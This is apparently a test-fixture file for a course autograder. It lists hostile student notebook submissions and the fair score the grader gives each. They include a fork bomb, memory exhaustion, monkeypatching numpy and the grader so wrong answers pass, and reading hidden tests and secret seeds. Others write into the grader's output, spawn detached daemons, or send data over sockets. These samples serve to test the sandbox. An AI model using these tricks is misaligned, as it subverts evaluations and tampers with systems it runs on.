@@ -1,0 +1,229 @@
+"""Hostile submissions, each with the score a fair grader gives it.
+
+Every student submits a correct bptt.ipynb (11 points) and a hidden_state.ipynb (9 points) with
+one attack added (a cell inserted after the set-up cell, or a function replaced). A fair grader
+skips what misbehaves, keeps every point earned by honest work, and gives no point for a wrong
+answer however the comparison was attacked. ``expected`` is that fair total (out of 20).
+
+``context`` gives the paths and port an attack aims at: the real solutions folder, the grader's
+OUT folder, a port the test listens on, and a marker that a detached process carries.
+"""
+
+from dataclasses import dataclass
+
+WRONG_STEP = "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n    return 0 * h_prev\n"
+WRONG_SOFTMAX = (
+    "def softmax_with_temperature(logits, temperature):\n"
+    "    return np.ones_like(logits) / logits.shape[-1]\n"
+)
+
+
+@dataclass(frozen=True)
+class Hostile:
+    name: str
+    expected: float  # the fair total out of 20
+    insert: tuple[str, ...] = ()  # cells put after the set-up cell of hidden_state.ipynb
+    replace: tuple[tuple[str, str], ...] = ()  # (function, new source) in hidden_state.ipynb
+    raw: str = ""  # the whole hidden_state.ipynb file, instead of a notebook
+    says: str = ""  # a fragment the student's feedback must contain
+    needs_isolation: bool = False  # the fair score holds only with bubblewrap's isolation
+
+
+def corpus(context: dict) -> tuple[Hostile, ...]:
+    """The hostile submissions, aimed at ``context``'s paths (solutions, out, port, marker)."""
+    c = context
+    return (
+        Hostile("infinite_loop_cell", 20, insert=("while True:\n    pass",), says="longer than"),
+        Hostile(
+            "infinite_loop_in_function",
+            18,  # the public cases (T <= 4) pass; the hidden case with T = 7 hangs: 2 points lost
+            replace=(
+                (
+                    "rnn_forward",
+                    "def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):\n"
+                    "    while x.shape[0] > 4:\n        pass\n"
+                    "    h, h_t = [], h0\n    for x_t in x:\n"
+                    "        h_t = rnn_step_forward(x_t, h_t, W_ih, W_hh, b_ih, b_hh)\n"
+                    "        h.append(h_t)\n    return np.stack(h), h_t\n",
+                ),
+            ),
+        ),
+        Hostile("os_exit_cell", 20, insert=("import os\nos._exit(3)",)),
+        Hostile(
+            "os_exit_in_function",
+            18,
+            replace=(
+                (
+                    "sample_tokens",
+                    "def sample_tokens(logits, temperature, u):\n    import os\n    os._exit(0)\n",
+                ),
+            ),
+            says="sample_tokens",
+        ),
+        Hostile("sys_exit_cell", 20, insert=("import sys\nsys.exit('bye')",), says="SystemExit"),
+        Hostile(
+            "exception_at_import",
+            20,
+            insert=("import a_module_that_does_not_exist",),
+            says="ModuleNotFoundError",
+        ),
+        Hostile(
+            "allocate_3_gib", 20, insert=("block = np.ones(3 * 1024**3 // 8)\nblock[::4096] = 2",)
+        ),
+        Hostile("print_20_mb", 20, insert=("print('x' * 20_000_000)",)),
+        Hostile("fork_bomb", 20, insert=("import os\nwhile True:\n    os.fork()",)),
+        Hostile(
+            "patch_numpy",
+            15,  # rnn_step_forward is wrong (2), and rnn_forward calls it (3)
+            insert=(
+                "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
+                "numpy.testing.assert_allclose = lambda *a, **k: None\n"
+                "numpy.array_equal = lambda *a, **k: True\nnumpy.isfinite = lambda *a: True",
+            ),
+            replace=(("rnn_step_forward", WRONG_STEP),),
+        ),
+        Hostile(
+            "patch_builtins",
+            16,  # softmax is wrong (2), and sample_tokens calls it (2)
+            insert=(
+                "import builtins\nbuiltins.abs = lambda *a: 0\nbuiltins.all = lambda *a: True\n"
+                "builtins.any = lambda *a: False\nbuiltins.round = lambda *a, **k: 0",
+            ),
+            replace=(("softmax_with_temperature", WRONG_SOFTMAX),),
+        ),
+        Hostile(
+            "patch_grader",
+            15,
+            insert=(
+                "import sys\nimport course_rnn.grading\n"
+                "course_rnn.grading.check = lambda *a, **k: True\n"
+                "for name in list(sys.modules):\n"
+                "    if name.startswith('course_rnn'):\n"
+                "        for attr in ('check', 'evaluate_public', 'passes_hidden'):\n"
+                "            setattr(sys.modules[name], attr, lambda *a, **k: True)",
+                "def course_rnn_grader_batch(tasks):\n"
+                "    return tuple(('{\"params\": null}', tuple(('ok', None) for _ in probes))\n"
+                "                 for _, _, _, probes in tasks)",
+            ),
+            replace=(("rnn_step_forward", WRONG_STEP),),
+        ),
+        Hostile(
+            "read_hidden_tests",
+            15,  # only a copy of the hidden tests would make rnn_step_forward right
+            insert=(
+                "import pathlib\nleak = ''\n"
+                f"for p in ({str(c['solutions'] / 'tests' / 'hidden_state.py')!r},"
+                f" {str(c['solutions'] / 'tests' / 'secret_seed.txt')!r},"
+                f" {str(c['solutions'] / 'hidden_state.ipynb')!r}):\n"
+                "    try:\n        leak += pathlib.Path(p).read_text()\n"
+                "    except OSError:\n        pass",
+            ),
+            replace=(
+                (
+                    "rnn_step_forward",
+                    "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n"
+                    "    if 'GRADED' in leak:\n"
+                    "        return np.tanh(x_t @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh)\n"
+                    "    return 0 * h_prev\n",
+                ),
+            ),
+            needs_isolation=True,
+        ),
+        Hostile(
+            "write_into_out",
+            20,
+            insert=(
+                "import os\n"
+                f"for path in ({str(c['out'] / 'grades.csv')!r}, "
+                f"{str(c['out'] / 'results' / 'intruder' / 'record.json')!r}):\n"
+                "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
+                "        open(path, 'w').write('pwned')\n"
+                "    except OSError:\n        pass",
+            ),
+            needs_isolation=True,
+        ),
+        Hostile(
+            "detached_daemon",
+            20,
+            insert=(
+                "import subprocess, sys\n"
+                "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', "
+                f"{c['marker']!r}], start_new_session=True,\n"
+                "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
+                "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                f"        os.execvp('sleep', ['sleep', '300', {c['marker']!r}])\n"
+                "    os._exit(0)",
+            ),
+        ),
+        Hostile(
+            "network",
+            20,
+            insert=(
+                "import socket\n"
+                f"for address in (('127.0.0.1', {c['port']}), ('1.1.1.1', 53)):\n"
+                "    try:\n"
+                "        socket.create_connection(address, timeout=1).sendall(b'leak')\n"
+                "    except OSError:\n        pass",
+            ),
+            needs_isolation=True,
+        ),
+        Hostile(
+            "corrupt_notebook",
+            11,
+            raw='{"cells": [{"cell_type": "code", "sour',
+            says="is not valid JSON",
+        ),
+        Hostile(
+            "wrong_shapes",
+            15,
+            replace=(
+                (
+                    "rnn_step_forward",
+                    "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n"
+                    "    return np.tanh(x_t @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh).T\n",
+                ),
+            ),
+            says="h_t has shape (4, 3); expected (B, H) = (3, 4)",
+        ),
+        Hostile(
+            "nan_results",
+            17,
+            replace=(
+                (
+                    "rnn_forward",
+                    "def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):\n"
+                    "    h = np.full((x.shape[0], *h0.shape), np.nan)\n    return h, h[-1]\n",
+                ),
+            ),
+            says="h has 40 NaN or infinite entries",
+        ),
+        Hostile(
+            "calls_reference_in_function",
+            15,
+            replace=(
+                (
+                    "rnn_step_forward",
+                    "def rnn_step_forward(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):\n"
+                    "    from course_rnn.numpy_nn.rnn import rnn_step_forward as reference\n"
+                    "    return reference(x_t, h_prev, W_ih, W_hh, b_ih, b_hh)[0]\n",
+                ),
+            ),
+            says="rnn_step_forward uses course_rnn's reference implementation",
+        ),
+        Hostile(
+            "imports_reference_in_cell",
+            17,
+            insert=("from course_rnn.numpy_nn.rnn import rnn_forward as reference_forward",),
+            replace=(
+                (
+                    "rnn_forward",
+                    "def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):\n"
+                    "    params = dict(zip(['weight_ih_l0', 'weight_hh_l0', 'bias_ih_l0', "
+                    "'bias_hh_l0'], [W_ih, W_hh, b_ih, b_hh]))\n"
+                    "    h, h_n, _ = reference_forward(x, params, h0[None])\n"
+                    "    return h, h_n[0]\n",
+                ),
+            ),
+            says="imports course_rnn's reference implementation, which is blocked",
+        ),
+    )
